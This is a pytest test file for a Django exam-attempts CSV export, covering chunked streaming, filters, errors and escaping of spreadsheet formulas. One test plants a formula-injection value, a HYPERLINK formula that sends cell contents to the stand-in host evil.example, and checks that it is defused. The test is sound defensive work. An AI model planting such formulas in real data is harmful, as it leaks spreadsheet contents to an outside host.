"""The CSV export of the attempts list: streamed in chunks, same rows and filters, spreadsheet-safe."""

import csv
import io
from urllib.parse import quote

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from edx_exams.apps.api.v1.csv_export import CSV_COLUMNS, safe_cell
from edx_exams.apps.api.v1.tests.bulk import bulk_attempts
from edx_exams.apps.core.models import AttemptReview
from edx_exams.apps.core.statuses import ExamAttemptStatus as S
from edx_exams.apps.core.tests.factories import (
    ExamAttemptFactory,
    ExamFactory,
    ProviderFactory,
    UserFactory,
)
from edx_exams.apps.lti.models import ProctoringReview
from test_utils.courses import COURSE

pytestmark = pytest.mark.django_db
BASE = f'/api/v1/instructor_view/course_id/{COURSE}/attempts'


@pytest.fixture
def exam():
    return ExamFactory(course_id=COURSE, exam_type='proctored', provider=ProviderFactory(), exam_name='Final')


def _csv(response):
    assert response.status_code == 200, getattr(response, 'content', b'')
    assert isinstance(response, StreamingHttpResponse)
    assert response['Content-Type'] == 'text/csv; charset=utf-8'
    text = b''.join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_export_streams_thousands_of_rows_in_chunks(staff, exam):
    attempts = bulk_attempts(exam, 4500)
    ExamAttemptFactory(exam=ExamFactory(course_id='course-v1:edX+Other+2026'))
    with CaptureQueriesContext(connection) as queries:
        response = staff.get(f'{BASE}/export?exam_id={exam.id}')
        rows = _csv(response)
    disposition = response['Content-Disposition']
    assert disposition.startswith(
        f'attachment; filename="exam_attempts_course-v1_edX_DemoX_Demo_Course_exam_{exam.id}_'
    )
    assert disposition.endswith('.csv"')
    assert len(rows) == 4500
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [int(row['attempt_id']) for row in rows] == [a.id for a in attempts]
    assert sum(1 for row in rows if row['proctored_review_severity'] == '0.4') == 450
    assert sum(1 for row in rows if row['staff_review_decision'] == 'verified') == 450
    # Three chunks of at most 2,000 rows, each read with its two kinds of review: the query count
    # follows the number of chunks, not the number of rows.
    chunk_queries = [q for q in queries.captured_queries if 'FROM "core_examattempt"' in q['sql'].replace('`', '"')]
    assert len(chunk_queries) == 3
    assert len(queries) <= 6 + 3 * 3


def test_export_row_matches_the_list_row(staff, exam):
    attempt = ExamAttemptFactory(
        exam=exam, status=S.REJECTED, user=UserFactory(username='ada', email='ada@example.com', lms_user_id=77)
    )
    ProctoringReview.objects.create(attempt=attempt, action='terminate', severity=0.9, reason_code='1', reason_msg='x')
    AttemptReview.objects.create(attempt=attempt, reviewer=None, decision='rejected', comment='left the room')
    (listed,) = staff.get(f'{BASE}?exam_id={exam.id}').json()['results']
    (row,) = _csv(staff.get(f'{BASE}/export?exam_id={exam.id}'))
    for column in ('attempt_id', 'exam_id', 'exam_display_name', 'exam_type', 'user_id', 'username', 'email'):
        assert row[column] == str(listed[column])
    assert row['attempt_status'] == 'rejected'
    assert row['is_active'] == 'true'
    assert row['start_time'] == ''
    assert (row['proctored_review_severity'], row['proctored_review_submission_reason']) == ('0.9', 'x')
    assert (row['staff_review_decision'], row['staff_review_reviewer']) == ('rejected', '')
    assert row['staff_review_comment'] == 'left the room'
    assert row['staff_review_created'] == listed['staff_review']['created']
    assert row['review_url'] == listed['review_url']


@pytest.mark.parametrize(
    ('path', 'headers'),
    [
        ('?format=csv', {}),
        ('/?format=csv', {}),
        ('', {'HTTP_ACCEPT': 'text/csv'}),
        ('/export', {'HTTP_ACCEPT': 'application/json'}),
        ('/export/', {}),
    ],
    ids=['format', 'format-slash', 'accept', 'export-json-accept', 'export-slash'],
)
def test_every_way_of_asking_for_csv(staff, exam, path, headers):
    ExamAttemptFactory.create_batch(3, exam=exam)
    assert len(_csv(staff.get(f'{BASE}{path}', **headers))) == 3


def test_format_json_wins_over_accept(staff, exam):
    ExamAttemptFactory(exam=exam)
    response = staff.get(f'{BASE}?format=json', HTTP_ACCEPT='text/csv')
    assert response.status_code == 200
    assert response.json()['count'] == 1


def test_export_applies_the_filters_not_the_page(staff, exam):
    grace = ExamAttemptFactory(exam=exam, status=S.VERIFIED, user=UserFactory(username='grace'))
    ExamAttemptFactory(exam=exam, status=S.ERROR, user=UserFactory(username='grace2'))
    ExamAttemptFactory(exam=exam, status=S.VERIFIED, user=UserFactory(username='alan'))
    reset = ExamAttemptFactory(exam=exam, status=S.VERIFIED, user=UserFactory(username='grace3'))
    assert staff.delete(f'/api/v1/exams/attempt/{reset.id}').status_code == 204
    rows = _csv(staff.get(f'{BASE}?format=csv&search=GRACE&status=verified&limit=1&offset=5'))
    assert [int(row['attempt_id']) for row in rows] == [grace.id]
    rows = _csv(staff.get(f'{BASE}/export?search=grace&status=verified&include_reset=true'))
    assert [int(row['attempt_id']) for row in rows] == [grace.id, reset.id]


def test_export_of_every_exam(staff, exam):
    ExamAttemptFactory(exam=exam)
    ExamAttemptFactory(exam=ExamFactory(course_id=COURSE))
    response = staff.get(f'{BASE}/export')
    assert len(_csv(response)) == 2
    assert '_all_exams_' in response['Content-Disposition']


@pytest.mark.parametrize('encode', [False, True], ids=['raw', 'encoded'])
def test_export_of_a_course_without_attempts_is_a_header(jwt_client, encode):
    client = jwt_client.as_user(UserFactory(is_staff=True))
    course = 'course-v1:edX+Empty+1'
    key = quote(course, safe='') if encode else course
    response = client.get(f'/api/v1/instructor_view/course_id/{key}/attempts/export')
    assert response.status_code == 200
    assert b''.join(response.streaming_content).decode() == ','.join(CSV_COLUMNS) + '\r\n'


def test_cells_that_a_spreadsheet_would_run_are_defused(staff, exam):
    user = UserFactory(username='mallory', email='@SUM(1+1)@example.com')
    exam.exam_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    exam.save()
    attempt = ExamAttemptFactory(exam=exam, user=user)
    AttemptReview.objects.create(attempt=attempt, decision='verified', comment='-2+3')
    (row,) = _csv(staff.get(f'{BASE}/export'))
    assert row['exam_display_name'] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row['email'] == "'@SUM(1+1)@example.com"
    assert row['staff_review_comment'] == "'-2+3"
    assert row['username'] == 'mallory'


@pytest.mark.parametrize(
    ('value', 'expected'),
    [
        ('=1+1', "'=1+1"),
        ('+1', "'+1"),
        ('-1', "'-1"),
        ('@x', "'@x"),
        ('\tx', "'\tx"),
        ('plain', 'plain'),
        (-1.5, '-1.5'),
        (None, ''),
        (True, 'true'),
        (3, '3'),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize(
    ('query', 'status'),
    [
        ('?exam_id=abc', 400),
        ('?ordering=bogus', 400),
        ('?status=nope', 400),
        ('?exam_id=987654', 404),
    ],
)
def test_export_errors_are_json(staff, query, status):
    for url in (f'{BASE}/export{query}', f'{BASE}{query}&format=csv'):
        response = staff.get(url, HTTP_ACCEPT='text/csv')
        assert response.status_code == status
        assert response['Content-Type'] == 'application/json'
        assert 'detail' in response.json()


def test_export_bad_course_key(jwt_client):
    client = jwt_client.as_user(UserFactory(is_staff=True))
    response = client.get('/api/v1/instructor_view/course_id/course-v1:edX+Bad Key+1/attempts/export')
    assert response.status_code == 400
